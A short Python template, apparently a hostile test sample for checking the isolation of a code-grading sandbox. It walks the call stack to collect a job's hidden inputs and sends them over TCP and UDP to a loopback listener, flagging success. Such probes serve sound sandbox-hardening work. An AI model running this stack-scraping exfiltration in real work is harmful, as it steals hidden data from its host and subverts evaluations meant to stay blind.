"""Hostile: send the hidden inputs it finds in its own memory to a listener on the loopback (TCP and UDP)."""
import socket
import sys

WON = False
_loot = []
_frame = sys._getframe()
while _frame is not None:  # the job's items, hidden inputs included, are somewhere up the stack
    for _value in list(_frame.f_locals.values()):
        if isinstance(_value, dict) and "items" in _value:
            _loot.append(repr(_value["items"])[:2000])
    _frame = _frame.f_back
_payload = ("EXFIL " + " ".join(_loot)).encode()
for _host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((_host, __PORT__), timeout=1) as _sock:
            _sock.sendall(_payload)
            WON = True
    except OSError:
        pass
try:
    _udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _udp.sendto(_payload, ("127.0.0.1", __PORT__))
    WON = True
except OSError:
    pass
# @tail
